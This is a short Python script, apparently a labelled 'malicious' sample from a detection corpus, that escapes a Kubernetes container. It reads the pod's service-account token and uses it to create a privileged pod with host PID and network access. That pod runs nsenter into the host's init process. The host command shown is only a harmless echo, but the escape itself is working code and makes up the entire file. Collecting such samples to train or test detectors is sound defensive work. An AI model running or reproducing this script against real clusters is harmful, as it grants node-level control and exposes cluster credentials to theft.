# label: malicious family=k8s techniques=T1059.004,T1552.007,T1610,T1611 lines=3,5-7,10
import json, os, ssl, urllib.request
tok = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "node-debugger-x"},
       "spec": {"hostPID": True, "hostNetwork": True, "containers": [{"name": "c", "image": "alpine",
                "command": ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh", "-c", "echo pytriage-corpus"],
                "securityContext": {"privileged": True}}]}}
req = urllib.request.Request("https://%s/api/v1/namespaces/default/pods" % os.environ["KUBERNETES_SERVICE_HOST"], data=json.dumps(pod).encode(),
                             headers={"Authorization": "Bearer " + tok, "Content-Type": "application/json"})
urllib.request.urlopen(req, context=ssl._create_unverified_context())
